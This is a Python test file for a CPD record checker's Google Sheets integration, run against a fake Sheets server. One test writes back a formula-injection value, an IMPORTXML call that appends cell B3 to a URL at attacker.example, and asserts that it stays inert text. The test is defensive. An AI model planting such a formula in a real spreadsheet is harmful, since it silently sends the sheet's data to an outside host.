"""Google Sheets: `cpd sheets check` and `pull` through real gspread and google-auth against the fake."""
from __future__ import annotations

import json
import random
import time

import openpyxl

from conftest import sheet_url
from fake_sheets import Cell
from gen import random_records
from workbook_templates import example_path
from addin.workbook.template import build_workbook

EXAMPLE = example_path("iet").read_bytes()


def shared(fake, data=EXAMPLE, role="reader", **kw):
    return fake.load_xlsx(data, share={fake.email: role}, **kw)


def test_a_shared_sheet_checks_as_the_workbook_does_in_two_api_calls(cpd, fake_sheets, example_iet):
    book = shared(fake_sheets)
    from_file = cpd("check", example_iet, "--as-of", "2025-06-30")
    from_sheet = cpd("sheets", "check", sheet_url(book), "--as-of", "2025-06-30")
    assert from_sheet.exit_code == from_file.exit_code == 0
    assert from_sheet.output == from_file.output
    assert "Verdict: READY" in from_sheet.output
    assert fake_sheets.api_calls() == 2 and fake_sheets.token_requests == 1
    methods = [(m, p.rsplit("/", 1)[-1]) for m, p, _ in fake_sheets.calls]
    assert methods == [("GET", book.key), ("GET", book.key)]      # the sheets and their sizes; then their cells
    grid = fake_sheets.calls[1][2]
    assert grid["includeGridData"] == ["true"] and grid["ranges"] == ["'Record'!A1:Z1000", "'Plan'!A1:Z1000"]
    assert grid["fields"] == ["sheets(properties(title),data(startRow,startColumn,rowData(values(effectiveValue,"
                              "userEnteredValue.formulaValue))))"]


def test_the_key_alone_names_the_sheet_and_json_matches(cpd, fake_sheets, example_iet):
    book = shared(fake_sheets)
    a = cpd("check", example_iet, "--json", "--as-of", "2025-06-30")
    b = cpd("sheets", "check", book.key, "--json", "--as-of", "2025-06-30")
    assert json.loads(a.output) == json.loads(b.output)


def test_not_shared_names_the_service_account_to_share_with(cpd, fake_sheets):
    book = fake_sheets.load_xlsx(EXAMPLE, share={"someone@example.org": "writer"})
    result = cpd("sheets", "check", sheet_url(book), "--json")
    assert result.exit_code == 2
    error = json.loads(result.output)["error"]
    assert error["code"] == "sheets_not_shared"
    assert fake_sheets.email in error["message"]


def test_a_missing_sheet_is_not_found(cpd, fake_sheets):
    result = cpd("sheets", "check", "1" * 44, "--json")
    assert result.exit_code == 2 and json.loads(result.output)["error"]["code"] == "sheets_not_found"


def test_an_address_that_is_not_a_sheet_is_refused_before_any_call(cpd, fake_sheets):
    result = cpd("sheets", "check", "https://example.org/my-cpd", "--json")
    assert json.loads(result.output)["error"]["code"] == "sheets_bad_address"
    assert fake_sheets.api_calls() == 0


def test_rate_limited_then_served(cpd, fake_sheets, example_iet):
    book = shared(fake_sheets)
    fake_sheets.fail("read", 429, times=2)
    result = cpd("sheets", "check", sheet_url(book), "--as-of", "2025-06-30")
    assert result.exit_code == 0, result.output
    assert result.output == cpd("check", example_iet, "--as-of", "2025-06-30").output
    assert fake_sheets.api_calls() == 4            # two refused, then the two a check needs


def test_rate_limited_for_ever_gives_up_in_bounded_time(cpd, fake_sheets, monkeypatch):
    monkeypatch.delenv("CPD_GOOGLE_SHEETS_RETRY_SECONDS")          # the default budget
    book = shared(fake_sheets)
    fake_sheets.fail_always("read", 429)
    start = time.monotonic()
    result = cpd("sheets", "check", sheet_url(book), "--json")
    elapsed = time.monotonic() - start
    assert json.loads(result.output)["error"]["code"] == "sheets_rate_limited"
    assert result.exit_code == 2
    assert elapsed < 30
    assert 2 <= fake_sheets.api_calls() <= 7


def test_retry_after_is_honoured(cpd, fake_sheets):
    book = shared(fake_sheets)
    fake_sheets.fail("read", 503, headers={"Retry-After": "1"})
    start = time.monotonic()
    assert cpd("sheets", "check", sheet_url(book)).exit_code == 0
    assert time.monotonic() - start >= 1


def test_a_server_error_that_lasts_is_unavailable(cpd, fake_sheets):
    book = shared(fake_sheets)
    fake_sheets.fail_always("read", 500)
    result = cpd("sheets", "check", sheet_url(book), "--json")
    assert json.loads(result.output)["error"]["code"] == "sheets_unavailable"


def test_a_token_endpoint_that_refuses_is_an_auth_failure(cpd, fake_sheets):
    book = shared(fake_sheets)
    fake_sheets.fail_always("token", 400)
    result = cpd("sheets", "check", sheet_url(book), "--json")
    assert json.loads(result.output)["error"]["code"] == "sheets_auth_failed"


def test_a_key_file_that_is_not_a_service_account_is_named(cpd, fake_sheets, tmp_path, monkeypatch):
    bad = tmp_path / "user.json"
    bad.write_text(json.dumps({"type": "authorized_user", "client_id": "x"}))
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(bad))
    result = cpd("sheets", "check", "1" * 44, "--json")
    assert json.loads(result.output)["error"]["code"] == "sheets_bad_credentials"


def _edited(data: bytes, edit) -> bytes:
    import io
    wb = openpyxl.load_workbook(io.BytesIO(data))
    edit(wb["Record"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_renamed_header_is_found_by_its_synonym_and_a_lost_table_is_named(cpd, fake_sheets, example_iet):
    def rename(ws):
        ws["J9"] = "Duration"            # the CPD hours column, renamed
    book = shared(fake_sheets, _edited(EXAMPLE, rename))
    a = cpd("check", example_iet, "--json", "--as-of", "2025-06-30")
    b = cpd("sheets", "check", book.key, "--json", "--as-of", "2025-06-30")
    assert json.loads(a.output) == json.loads(b.output)

    def lose(ws):
        for c in range(1, 20):
            ws.cell(row=9, column=c).value = f"Column {c}"
    book = shared(fake_sheets, _edited(EXAMPLE, lose))
    result = cpd("sheets", "check", book.key, "--json")
    assert result.exit_code == 2
    assert json.loads(result.output)["error"]["code"] == "no_activity_table"


def test_a_formula_in_a_value_cell_is_reported_with_its_cell(cpd, fake_sheets):
    book = shared(fake_sheets)
    book.sheets["Record"].cells[(10, 10)].formula = "=2+3"          # Record!J10, the first activity's hours
    book.sheets["Record"].cells[(10, 10)].value = 5
    result = cpd("sheets", "check", book.key, "--json")
    assert result.exit_code == 2
    problems = json.loads(result.output)["error"]["problems"]
    assert [(p["code"], p["sheet"], p["cell"]) for p in problems] == [("formula_not_allowed", "Record", "J10")]


def test_text_that_looks_like_a_formula_is_read_as_text(cpd, fake_sheets):
    """A value typed as text in Sheets ('=... with an apostrophe) is text in both renders: not a formula."""
    book = shared(fake_sheets)
    book.sheets["Record"].cells[(10, 13)] = Cell("=IMPORTXML(\"http://x\",\"//a\")")    # Notes (M10)
    result = cpd("sheets", "check", book.key, "--json", "--as-of", "2025-06-30")
    assert result.exit_code == 0, result.output


def test_write_back_puts_the_verdict_in_the_submission_area_as_text(cpd, fake_sheets):
    book = shared(fake_sheets, role="writer")
    result = cpd("sheets", "check", sheet_url(book), "--write-back", "--as-of", "2025-06-30")
    assert result.exit_code == 0, result.output
    cell = book.sheets["Record"].cells[(3, 9)]               # Record!I3, right of "Last check:"
    assert cell.formula is None and cell.value.startswith("READY (")
    write = fake_sheets.calls[-1]
    assert write[0] == "POST" and write[1].endswith("values:batchUpdate")
    assert fake_sheets.api_calls() == 3


def test_write_back_to_a_sheet_shared_read_only_says_so(cpd, fake_sheets):
    book = shared(fake_sheets, role="reader")
    result = cpd("sheets", "check", sheet_url(book), "--write-back", "--json")
    assert result.exit_code == 2
    error = json.loads(result.output)["error"]
    assert error["code"] == "sheets_read_only" and fake_sheets.email in error["message"]


def test_pull_saves_the_record_as_a_template_workbook(cpd, fake_sheets, example_iet, tmp_path):
    book = shared(fake_sheets)
    out = tmp_path / "pulled.xlsx"
    result = cpd("sheets", "pull", sheet_url(book), out)
    assert result.exit_code == 0, result.output
    a = json.loads(cpd("check", example_iet, "--json", "--as-of", "2025-06-30").output)
    b = json.loads(cpd("check", out, "--json", "--as-of", "2025-06-30").output)
    assert a == b
    assert cpd("sheets", "pull", sheet_url(book), out).exit_code == 2        # exists: --force to overwrite


RANDOM_RECORDS = 200


def test_one_truth_random_records_give_the_same_check_from_xlsx_and_sheets(cpd, fake_sheets, tmp_path):
    rng = random.Random(20261130)
    different = []
    for i, profile, header, rows in random_records(rng, RANDOM_RECORDS):
        path = tmp_path / f"r{i}.xlsx"
        build_workbook(profile, header, (), rows).save(path)
        book = shared(fake_sheets, path.read_bytes())
        a = cpd("check", path, "--json", "--as-of", "2025-06-30")
        b = cpd("sheets", "check", book.key, "--json", "--as-of", "2025-06-30")
        if (a.exit_code, json.loads(a.output)) != (b.exit_code, json.loads(b.output)):
            different.append((i, profile.id, a.output[:300], b.output[:300]))
    assert not different, different[:2]


def test_text_that_looks_like_a_formula_is_written_back_as_text(fake_sheets):
    """Write-back uses valueInputOption=RAW: a receipt or any text starting with '=' stays text in the sheet."""
    from addin.grid import read_record
    from google_sheets import SheetsClient
    book = shared(fake_sheets, role="writer")
    client = SheetsClient()
    fetched = client.read(book.key)
    hostile = '=IMPORTXML("https://attacker.example/x?"&B3,"//a")'
    client.write_back(fetched, {"receipt": hostile, "submission_id": "+SUM(1)"},
                      read_record(fetched.source).submission)
    receipt, sub_id = book.sheets["Record"].cells[(7, 9)], book.sheets["Record"].cells[(4, 9)]
    assert (receipt.formula, receipt.value) == (None, hostile)
    assert (sub_id.formula, sub_id.value) == (None, "+SUM(1)")
    assert fake_sheets.calls[-1][1].endswith("values:batchUpdate")
    # the fake does make a formula of the same text sent as USER_ENTERED: the test above can fail
    fake_sheets._write(book, "Record!I7", [[hostile]], "USER_ENTERED")
    assert book.sheets["Record"].cells[(7, 9)].formula == hostile


def test_a_sheet_with_a_quoted_title_is_read(cpd, fake_sheets, example_iet):
    """Ranges come back quoted when the sheet's title needs it ('My CPD'!A1:Z1000) and bare when not."""
    import io
    wb = openpyxl.load_workbook(io.BytesIO(EXAMPLE))
    wb["Record"].title = "My CPD 2025"
    buf = io.BytesIO()
    wb.save(buf)
    book = shared(fake_sheets, buf.getvalue())
    a = json.loads(cpd("check", example_iet, "--json", "--as-of", "2025-06-30").output)
    b = json.loads(cpd("sheets", "check", book.key, "--json", "--as-of", "2025-06-30").output)
    assert a == b


def test_write_back_without_a_submission_area_is_refused_and_writes_nothing(cpd, fake_sheets):
    def drop(ws):
        for r in range(3, 8):
            ws.cell(row=r, column=8).value = None
    book = shared(fake_sheets, _edited(EXAMPLE, drop), role="writer")
    result = cpd("sheets", "check", book.key, "--write-back", "--json")
    assert result.exit_code == 2
    assert json.loads(result.output)["error"]["code"] == "sheets_no_submission_area"
    assert all(method == "GET" for method, _, _ in fake_sheets.calls)


def test_the_rules_read_from_a_sheet_give_the_workbooks_answer(cpd, fake_sheets, tmp_path):
    """North Carolina's credit by activity, Engineers Ireland's declaration and a duration typed as text
    (refused in the template, naming the cell) read the same from Google Sheets as from the file."""
    from conftest import fill_workbook
    nc, ei, text = tmp_path / "nc.xlsx", tmp_path / "ei.xlsx", tmp_path / "text.xlsx"
    assert cpd("new", nc, "-p", "us-nc", "--year", "2025").exit_code == 0
    fill_workbook(nc, [{"start_date": "2025-02-01", "title": "ASCE committee", "hours": 13, "provider": "ASCE",
                        "category": "Society officer or committee (2 PDH a society a year)"},
                       {"start_date": "2025-03-01", "title": "Paper", "hours": 1,
                        "category": "Published paper, article or book (10 PDH each)"}],
                  header={"period_start": "2025-01-01", "period_end": "2025-12-31"}, profile_id="us-nc")
    assert cpd("new", ei, "-p", "ei", "--year", "2025").exit_code == 0
    fill_workbook(ei, [{"start_date": "2025-03-01", "title": "Course", "hours": 36,
                        "category": "Courses, seminars and conferences"}],
                  header={"period_start": "2025-01-01", "period_end": "2025-12-31", "declared_on": "2025-11-20"})
    assert cpd("new", text, "--year", "2025").exit_code == 0
    fill_workbook(text, [{"start_date": "2025-03-01", "title": "Talk", "hours": "20 min"}],
                  header={"period_start": "2025-01-01", "period_end": "2025-12-31"})
    for path in (nc, ei, text):
        book = shared(fake_sheets, path.read_bytes())
        a = cpd("check", path, "--json")
        b = cpd("sheets", "check", book.key, "--json")
        assert (a.exit_code, json.loads(a.output)) == (b.exit_code, json.loads(b.output)), path.name
    assert json.loads(cpd("check", nc, "--json").output)["counted_hours"] == 12
    refused = json.loads(cpd("check", text, "--json").output)
    assert refused["error"]["problems"][0]["code"] == "hours_is_text"
    assert next(c for c in json.loads(cpd("check", ei, "--json").output)["criteria"]
                if c["id"] == "declaration")["status"] == "pass"


def test_a_member_signs_in_with_their_own_google_account_and_checks_their_sheet(fake_sheets, tmp_path, monkeypatch):
    """No service-account key: `cpd sheets login` runs Google's installed-app flow (the member opens the link,
    Google sends the browser back to this computer), keeps the sign-in in the member's own file (0600), and
    `cpd sheets check` reads the member's sheet as them; a sheet they cannot open says so in their terms."""
    import os
    import subprocess
    import sys
    import urllib.request
    from workbook_templates import example_path
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS")
    client = tmp_path / "oauth-client.json"
    fake_sheets.oauth_client(client, signs_in_as="alex.morgan@gmail.com")
    mine = fake_sheets.load_xlsx(example_path("iet").read_bytes(), share={"alex.morgan@gmail.com": "writer"})
    theirs = fake_sheets.load_xlsx(example_path("iet").read_bytes(), share={"someone@else.org": "writer"})
    kept = tmp_path / "google-account.json"
    env = {**os.environ, "CPD_GOOGLE_OAUTH_CLIENT": str(client), "CPD_GOOGLE_ACCOUNT_FILE": str(kept),
           "CPD_GOOGLE_SHEETS_URL": fake_sheets.url,
           "OAUTHLIB_INSECURE_TRANSPORT": "1"}      # oauthlib's switch for a token endpoint on plain http: the fake's
    env.pop("GOOGLE_APPLICATION_CREDENTIALS", None)
    login = subprocess.Popen([sys.executable, "-m", "addin.cli", "sheets", "login", "--no-browser"], env=env,
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        lines = []
        while not (lines and lines[-1].startswith("http")):
            line = login.stdout.readline()
            assert line, "".join(lines)
            lines.append(line.strip())
        link = lines[-1]
        assert link.startswith(f"{fake_sheets.url}/auth?") and "code_challenge=" in link
        page = urllib.request.urlopen(link, timeout=30).read().decode()          # the browser, signing in
        assert "Signed in" in page
        out = login.communicate(timeout=30)[0]
    finally:
        login.kill()
    assert login.returncode == 0, out
    assert f"kept in {kept}" in out and (kept.stat().st_mode & 0o777) == 0o600
    check = subprocess.run([sys.executable, "-m", "addin.cli", "sheets", "check", mine.key], env=env,
                           capture_output=True, text=True, timeout=60)
    assert check.returncode == 0 and "Verdict: READY" in check.stdout, check.stdout + check.stderr
    signed = json.loads(kept.read_text())
    signed["expiry"] = "2020-01-01T00:00:00Z"                    # an expired access token: refreshed, not asked again
    kept.write_text(json.dumps(signed))
    before = fake_sheets.token_requests
    again = subprocess.run([sys.executable, "-m", "addin.cli", "sheets", "check", mine.key], env=env,
                           capture_output=True, text=True, timeout=60)
    assert again.returncode == 0 and fake_sheets.token_requests == before + 1, again.stderr
    other = subprocess.run([sys.executable, "-m", "addin.cli", "sheets", "check", theirs.key], env=env,
                           capture_output=True, text=True, timeout=60)
    assert other.returncode == 2 and "the Google account you signed in with cannot open this sheet" in other.stderr
    assert "service account" not in other.stderr
    out = subprocess.run([sys.executable, "-m", "addin.cli", "sheets", "logout"], env=env, capture_output=True,
                         text=True, timeout=60).stdout
    assert "Signed out" in out and not kept.exists()
